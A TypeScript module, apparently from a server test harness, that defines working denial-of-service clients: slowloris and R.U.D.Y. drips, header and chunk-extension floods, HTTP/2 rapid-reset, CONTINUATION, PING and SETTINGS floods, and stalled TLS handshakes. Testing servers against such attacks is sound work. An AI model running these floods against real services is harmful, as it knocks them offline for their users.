import type { Socket } from 'node:net'
import {
  continuation,
  get,
  openHead,
  PING,
  PREFACE,
  PREFACE_WITHOUT_WINDOW,
  reset,
  SETTINGS,
} from './frames.ts'

/** A client that means harm. Its connections are opened as fast as they come about; what is closed is not opened again. */
export interface Attack {
  readonly name: string
  readonly connections: number
  /** What is spoken; `handshake`: TLS is to come, and what is written is all of it. */
  readonly over: 'http' | 'h2' | 'handshake'
  /** As soon as the connection stands. */
  begin(socket: Socket): void
  /** Once a second from then on, and `drain` each time the socket takes more. */
  second?(socket: Socket): void
  drain?(socket: Socket): void
}

const HEAD = 'GET / HTTP/1.1\r\nHost: a\r\n'
const FLOOD = Buffer.from(`${HEAD}\r\n`.repeat(500), 'latin1')
const EXTENSION = Buffer.alloc(1 << 16, 'e')
const PINGS = Buffer.concat(Array<Buffer>(1000).fill(PING))
const ALL_SETTINGS = Buffer.concat(Array<Buffer>(1000).fill(SETTINGS))
/** The first bytes of a ClientHello whose record is 512 bytes long (RFC 8446, sections 4 and 5.1). */
const HALF_A_HELLO = Buffer.of(0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3)

function dripping(start: string, drop: string): Pick<Attack, 'begin' | 'second'> {
  return {
    begin: (socket) => void socket.write(start),
    second: (socket) => void socket.write(drop),
  }
}

type Flood = Required<Pick<Attack, 'begin' | 'drain'>>

/** Writes as much as is taken. */
function flooding(start: Buffer | string, more: (round: number) => Buffer): Flood {
  const rounds = new WeakMap<Socket, number>()
  const flood = (socket: Socket): void => {
    for (let i = 0; i < 64 && socket.writable; i++) {
      const round = rounds.get(socket) ?? 0
      rounds.set(socket, round + 1)
      if (!socket.write(more(round))) return
    }
  }
  return {
    begin: (socket) => {
      socket.write(start)
      flood(socket)
    },
    drain: flood,
  }
}

export const ATTACKS: readonly Attack[] = [
  {
    name: 'heads, a byte a second (slowloris)',
    connections: 2000,
    over: 'http',
    ...dripping(`${HEAD}X-a: `, 'b'),
  },
  {
    name: 'bodies, a byte a second (R.U.D.Y.)',
    connections: 2000,
    over: 'http',
    ...dripping('POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n', 'b'),
  },
  {
    name: 'large answers that nobody reads',
    connections: 100,
    over: 'http',
    begin: (socket) => {
      socket.pause()
      socket.write('GET /large HTTP/1.1\r\nHost: a\r\n\r\n')
    },
  },
  { name: 'connections that say nothing', connections: 3000, over: 'http', begin: () => {} },
  {
    name: 'connections kept after one request',
    connections: 3000,
    over: 'http',
    begin: (socket) => void socket.write(`${HEAD}\r\n`),
  },
  {
    name: 'heads without end',
    connections: 500,
    over: 'http',
    ...flooding(`${HEAD}X-a: `, () => EXTENSION),
  },
  {
    name: 'pipelined requests whose answers nobody reads',
    connections: 200,
    over: 'http',
    ...flooding('', () => FLOOD),
    begin: (socket) => {
      socket.pause()
      socket.write(FLOOD)
    },
  },
  {
    name: 'a chunk extension without end',
    connections: 500,
    over: 'http',
    ...flooding(
      'POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1;',
      () => EXTENSION,
    ),
  },
  {
    name: 'bodies of one-byte chunks',
    connections: 200,
    over: 'http',
    ...flooding('POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n', () =>
      Buffer.from('1\r\nb\r\n'.repeat(1000)),
    ),
  },
  {
    name: 'HTTP/2: requests that are reset at once (rapid reset)',
    connections: 50,
    over: 'h2',
    ...flooding(PREFACE, (round) => Buffer.concat([get(1 + 2 * round), reset(1 + 2 * round)])),
  },
  {
    name: 'HTTP/2: a head continued without end (CONTINUATION)',
    connections: 50,
    over: 'h2',
    ...flooding(Buffer.concat([PREFACE, openHead(1)]), () => continuation(1, 8000)),
  },
  {
    name: 'HTTP/2: PING',
    connections: 50,
    over: 'h2',
    ...flooding(PREFACE, () => PINGS),
  },
  {
    name: 'HTTP/2: SETTINGS',
    connections: 50,
    over: 'h2',
    ...flooding(PREFACE, () => ALL_SETTINGS),
  },
  {
    name: 'HTTP/2: a hundred answers of 1 MiB each that nobody takes',
    connections: 10,
    over: 'h2',
    begin: (socket) => {
      socket.write(PREFACE_WITHOUT_WINDOW)
      for (let i = 0; i < 100; i++) socket.write(get(1 + 2 * i, '/medium'))
    },
  },
  {
    name: 'TLS: handshakes that never end',
    connections: 2000,
    over: 'handshake',
    begin: (socket) => void socket.write(HALF_A_HELLO),
  },
]
